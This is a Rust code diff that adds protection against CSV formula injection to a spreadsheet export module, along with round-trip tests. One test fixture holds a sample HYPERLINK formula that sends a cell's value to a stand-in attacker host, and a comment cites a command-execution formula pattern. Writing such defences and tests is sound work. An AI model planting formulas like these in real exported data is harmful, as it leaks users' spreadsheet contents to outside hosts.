@@ -30,6 +30,16 @@ impl Cell<'_> {
         }
     }
 
+    /// A CSV text cell: as [`Cell::text`], without the `'` that [`csv_safe`] put before a
+    /// value starting like a formula (so an exported file imports back unchanged).
+    pub(crate) fn csv_text(s: &str) -> Cell<'_> {
+        let t = s.trim();
+        match t.strip_prefix('\'') {
+            Some(rest) if rest.starts_with(FORMULA_START) => Cell::text(rest),
+            _ => Cell::text(t),
+        }
+    }
+
     pub(crate) fn is_empty(&self) -> bool {
         matches!(self, Cell::Empty)
     }
@@ -45,6 +55,24 @@ impl Cell<'_> {
             Cell::Fen(f) => Cow::Owned(f.to_string()),
             Cell::Wrong(_) => Cow::Borrowed("(类型错误)"),
         }
+    }
+}
+
+/// The first characters with which a spreadsheet program reads a cell as a formula.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text value safe to open in a spreadsheet (OWASP "CSV injection"): a value starting like
+/// a formula (`=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`) gets a leading `'`, which Excel and WPS
+/// show as text; plain numbers (`-12.50`, `+8610…`) are left alone.
+pub(crate) fn csv_safe(v: &str) -> Cow<'_, str> {
+    let number = |s: &str| {
+        let d = s.trim_start_matches(['+', '-']);
+        !d.is_empty() && d.chars().all(|c| c.is_ascii_digit() || c == '.')
+    };
+    if v.starts_with(FORMULA_START) && !number(v) {
+        Cow::Owned(format!("'{v}"))
+    } else {
+        Cow::Borrowed(v)
     }
 }
 
@@ -232,5 +260,23 @@ mod tests {
         assert_eq!(money_from_number(1234.5), Ok(Fen(123450)));
         assert!(money_from_number(1.234).is_err());
         assert_eq!(number_text(110105.0), "110105");
+    }
+}
+
+#[cfg(test)]
+mod csv_injection_tests {
+    use super::*;
+
+    #[test]
+    fn formulas_are_neutralized_and_read_back() {
+        let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")";
+        let safe = csv_safe(evil);
+        assert_eq!(safe, format!("'{evil}"));
+        assert_eq!(Cell::csv_text(&safe), Cell::Text(evil));
+        for plain in ["北京市朝阳区", "-12.50", "+8610", "'引号开头"] {
+            assert_eq!(csv_safe(plain), plain);
+            assert_eq!(Cell::csv_text(plain), Cell::Text(plain));
+        }
+        assert_eq!(csv_safe("@SUM(A1)"), "'@SUM(A1)");
     }
 }
